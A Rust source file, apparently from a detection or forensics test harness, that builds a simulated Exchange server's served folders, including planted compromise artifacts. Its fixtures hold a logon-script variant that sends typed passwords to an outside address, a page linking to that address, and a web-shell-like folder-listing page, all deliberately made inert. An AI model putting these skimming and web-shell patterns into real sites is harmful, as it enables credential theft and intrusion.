//! The files of the served folders. None is Microsoft's: the text is ours, so no build's hash fits it.

use crate::server::Server;
use afterpatch_model::{Timestamp, path_key};

/// Placeholders for what lies in the served folders of every server; no script among them.
const STATIC: &[(&str, &str)] = &[
    (
        r"FrontEnd\HttpProxy\owa\auth\current\themes\resources\logon.css",
        "/* placeholder */ body { margin: 0 }\r\n",
    ),
    (r"FrontEnd\HttpProxy\owa\auth\current\themes\resources\lgnbotl.gif", "GIF89a placeholder"),
    (r"FrontEnd\HttpProxy\owa\auth\current\themes\resources\favicon.png", "\u{89}PNG placeholder"),
    (r"FrontEnd\HttpProxy\owa\auth\current\scripts\placeholder.js", "// placeholder\r\n"),
    (r"FrontEnd\HttpProxy\ecp\web.config", "<?xml version=\"1.0\"?>\r\n<configuration />\r\n"),
    (r"FrontEnd\HttpProxy\owa\web.config", "<?xml version=\"1.0\"?>\r\n<configuration />\r\n"),
    (r"ClientAccess\Owa\web.config", "<?xml version=\"1.0\"?>\r\n<configuration />\r\n"),
];
/// Pages that Exchange itself compiles.
const GENUINE_PAGES: &[&str] = &["logon.aspx", "errorFE.aspx", "signout.aspx"];
const COMPILED: &str =
    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\8e05b027\e164d61b";

/// Puts the ordinary files of the served folders there, as they have lain since `since`.
pub(crate) fn furnish(server: &mut Server, since: Timestamp) {
    for (rest, text) in STATIC {
        let path = server.installed(rest);
        server.tree.file(path, text.as_bytes().to_vec(), since);
    }
    let start_page = b"<!DOCTYPE html><title>placeholder</title>\r\n".to_vec();
    server.tree.file(r"C:\inetpub\wwwroot\iisstart.htm".to_owned(), start_page, since);
    for page in GENUINE_PAGES {
        compile(server, since, page);
    }
}

/// Returns where ASP.NET writes down that it compiled a page of `/owa/auth`.
pub(crate) fn compiled_path(page: &str) -> String {
    // The eight digits are a hash of the folder: the same for every page in it.
    format!(r"{COMPILED}\{page}.f5dba9b9.compiled")
}

/// Leaves what ASP.NET leaves when it compiles a page of `/owa/auth`: it survives the page.
pub(crate) fn compile(server: &mut Server, time: Timestamp, page: &str) {
    let assembly = server.dice(&format!("compile {page}")).letters(8);
    let type_name = page.to_lowercase().replace('.', "_");
    let text = format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n\
         <preserve resultType=\"3\" virtualPath=\"/owa/auth/{page}\" hash=\"4f1a2c90\" filehash=\"72ed10f3a55b9c41\" \
         flags=\"110000\" assembly=\"App_Web_{assembly}\" type=\"ASP.auth_{type_name}\">\r\n    \
         <filedeps>\r\n        <filedep name=\"/owa/auth/{page}\" />\r\n    </filedeps>\r\n</preserve>\r\n"
    );
    server.tree.file(compiled_path(page), text.into_bytes(), time);
}

/// Returns the path of a page of `/owa/auth`, without its drive: as a share names it.
pub(crate) fn page_path(server: &Server, page: &str) -> String {
    server.installed(&format!(r"FrontEnd\HttpProxy\owa\auth\{page}"))
}

/// Returns the form of a page's path in which findings name it.
pub(crate) fn page_key(install_root: &str, page: &str) -> String {
    path_key(&format!(r"{install_root}FrontEnd\HttpProxy\owa\auth\{page}"))
}

/// Writes the settings of the address book's virtual directory, script and all, as a reset does.
pub(crate) fn drop_page(server: &mut Server, time: Timestamp, page: &str, url: &str) {
    let line = |(name, value): (&str, String)| format!("{name:<32}: {value}\r\n");
    let lines: Vec<String> = settings(server, url).into_iter().map(line).collect();
    let path = page_path(server, page);
    server.tree.file(path, lines.concat().into_bytes(), time);
}

/// A script of the logon page that looks for what was typed in, as one's own design does. It compiles nowhere: it begins with what
/// is no script.
const LOGON_SCRIPT: &str = "?inert?\r\nfunction field(name) { return document.getElementById(name); }\r\n";
/// What it does on a click: sends the form to its own server, if there is anything to send.
const SENDS_THE_FORM: &str = "function clkLgn() { if (field(\"password\").value == \"\") { return; } document.logonForm.submit(); }\r\n";
/// What a changed one does besides: the password becomes part of an address.
const SENDS_THE_PASSWORD: &str = "function clkLgn() { new Image().src = \"https://198.51.100.23/?\" + escape(field(\"password\").value); document.logonForm.submit(); }\r\n";

/// Writes the script of the logon page: one that was made prettier, or one that takes passwords.
pub(crate) fn write_logon_script(server: &mut Server, time: Timestamp, takes_passwords: bool) {
    let path = server.installed(r"FrontEnd\HttpProxy\owa\auth\15.1.2106\scripts\premium\flogon.js");
    let click = if takes_passwords { SENDS_THE_PASSWORD } else { SENDS_THE_FORM };
    server.tree.file(path, [LOGON_SCRIPT, click].concat().into_bytes(), time);
}

/// A page of Exchange's own name with another content: a link to where no page of Exchange's leads. No script is in it.
const CHANGED_PAGE: &str = "<%@ Page Language=\"C#\" %>\r\n<!DOCTYPE html><title>placeholder</title><a href=\"https://198.51.100.23/\">Try again</a>\r\n";

/// Puts another page in the place of one that Exchange brings.
pub(crate) fn change_page(server: &mut Server, time: Timestamp, page: &str) {
    let path = page_path(server, page);
    server.tree.file(path, CHANGED_PAGE.as_bytes().to_vec(), time);
}

/// Pages of a build that no list knows, each with the class that stands behind it: one that the build brings anew, and one that
/// every build has.
const LATER_PAGES: &[(&str, &str)] = &[
    (r"ClientAccess\ecp\Placeholder.aspx", "Management.ControlPanel.Placeholder"),
    (r"FrontEnd\HttpProxy\owa\auth\logon.aspx", "HttpProxy.Logon"),
];

/// Puts the pages there that a later build brings.
pub(crate) fn bring_later_pages(server: &mut Server, time: Timestamp) {
    for (rest, class) in LATER_PAGES {
        let path = server.installed(rest);
        let page = format!(
            "<%@ Page Language=\"C#\" Inherits=\"Microsoft.Exchange.{class}\" %>\r\n<!DOCTYPE html><title>placeholder</title>\r\n"
        );
        server.tree.file(path, page.into_bytes(), time);
    }
}

/// Puts a page that no build brings beside those of the control panel.
pub(crate) fn add_page(server: &mut Server, time: Timestamp, page: &str) {
    let path = server.installed(&format!(r"ClientAccess\ecp\{page}"));
    server.tree.file(path, CHANGED_PAGE.as_bytes().to_vec(), time);
}

/// A page that lists whichever folder is asked for. It compiles nowhere: it names what no library has.
const FOLDER_LIST: &str = "<%@ Page Language=\"C#\" %>\r\n<% Inert.Fixture; foreach (string file in System.IO.Directory.GetFiles(Request[\"folder\"])) { Response.Write(file); } %>\r\n";

/// Writes a page by which an administrator, or an intruder, lists folders of the server.
pub(crate) fn write_folder_list(server: &mut Server, time: Timestamp, path: &str) {
    server.tree.file(path.to_owned(), FOLDER_LIST.as_bytes().to_vec(), time);
}

/// Returns the settings that a reset writes, in its order.
fn settings(server: &Server, url: &str) -> Vec<(&'static str, String)> {
    let host = server.full_name();
    let name = server.plan.name;
    let guid = server.dice("virtual directory").guid();
    let distinguished = format!(
        "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={name},CN=Servers,CN=Example,DC=example,DC=org"
    );
    vec![
        ("Name", "OAB (Default Web Site)".to_owned()),
        ("PollInterval", "480".to_owned()),
        ("OfflineAddressBooks", r"\Default Offline Address Book".to_owned()),
        ("RequireSSL", "True".to_owned()),
        ("BasicAuthentication", "False".to_owned()),
        ("WindowsAuthentication", "True".to_owned()),
        ("OAuthAuthentication", "True".to_owned()),
        ("MetabasePath", format!("IIS://{host}/W3SVC/1/ROOT/OAB")),
        ("Path", server.installed(r"FrontEnd\HttpProxy\OAB")),
        ("ExtendedProtectionTokenChecking", "None".to_owned()),
        ("ExtendedProtectionFlags", String::new()),
        ("ExtendedProtectionSPNList", String::new()),
        ("AdminDisplayVersion", "Version 15.1 (Build 2106.2)".to_owned()),
        ("Server", name.to_owned()),
        ("InternalUrl", format!("https://{host}/OAB")),
        ("InternalAuthenticationMethods", "OAuth, WindowsIntegrated".to_owned()),
        ("ExternalUrl", url.to_owned()),
        ("ExternalAuthenticationMethods", "OAuth, WindowsIntegrated".to_owned()),
        ("AdminDisplayName", String::new()),
        ("ExchangeVersion", "0.20 (15.0.0.0)".to_owned()),
        ("DistinguishedName", distinguished),
        ("Identity", format!(r"{name}\OAB (Default Web Site)")),
        ("Guid", guid),
        ("ObjectCategory", "example.org/Configuration/Schema/ms-Exch-OAB-Virtual-Directory".to_owned()),
        ("ObjectClass", "top, msExchVirtualDirectory, msExchOABVirtualDirectory".to_owned()),
        ("WhenCreatedUTC", "2020-09-21 08:14:11".to_owned()),
        ("OrganizationId", String::new()),
        ("IsValid", "True".to_owned()),
    ]
}
